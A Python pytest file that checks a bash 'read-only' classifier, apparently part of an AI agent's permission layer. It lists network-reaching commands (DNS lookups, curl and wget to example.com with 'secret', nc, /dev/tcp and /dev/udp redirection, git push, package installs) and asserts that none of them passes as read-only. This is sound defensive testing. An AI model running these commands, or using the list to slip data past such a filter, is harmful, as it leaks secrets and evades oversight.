"""What only reads has no way to tell anybody elsewhere what it read."""

from __future__ import annotations

import pytest

from tools.bash.parse import parse
from tools.bash.readonly import only_reads

# Each carries what it is given out of the machine, some of them in nothing but a name that is looked up.
WAYS_OUT = (
    "ping -c 1 secret.example.com",
    "nslookup secret.example.com",
    "dig secret.example.com",
    "host secret.example.com",
    "getent hosts secret.example.com",
    "getent ahosts secret.example.com",
    "whois secret",
    "traceroute secret.example.com",
    "curl https://example.com/?q=secret",
    "wget -q https://example.com/secret",
    "nc example.com 80",
    "ssh example.com true",
    "scp f example.com:",
    "rsync f example.com:",
    "git push",
    "git push origin main",
    "git fetch example",
    "git ls-remote https://example.com/secret",
    "git archive --remote=example.com:x HEAD",
    "git remote show origin",
    "git remote update",
    "git submodule update",
    "npm install secret",
    "npm view secret",
    "pip install secret",
    "pip download secret",
    "pip index versions secret",
    "cargo add secret",
    "gem fetch secret",
    "go get example.com/secret",
    "docker pull example.com/secret",
    "apt-get update",
    "cat < /dev/tcp/example.com/80",
    "cat f > /dev/udp/example.com/53",
    "mail someone@example.com",
    "logger -n example.com secret",
    "openssl s_client -connect example.com:443",
    "python3 -c 'import socket'",
    "gh gist create f",
    "date --set secret",
    "wall secret",
)


@pytest.mark.parametrize("command", WAYS_OUT)
@pytest.mark.parametrize("around", ["{}", "cat f | {}", "echo $({})", "timeout 5 {}"])
def test_F10_no_way_out_only_reads(command: str, around: str) -> None:
    assert not only_reads(parse(around.format(command)))
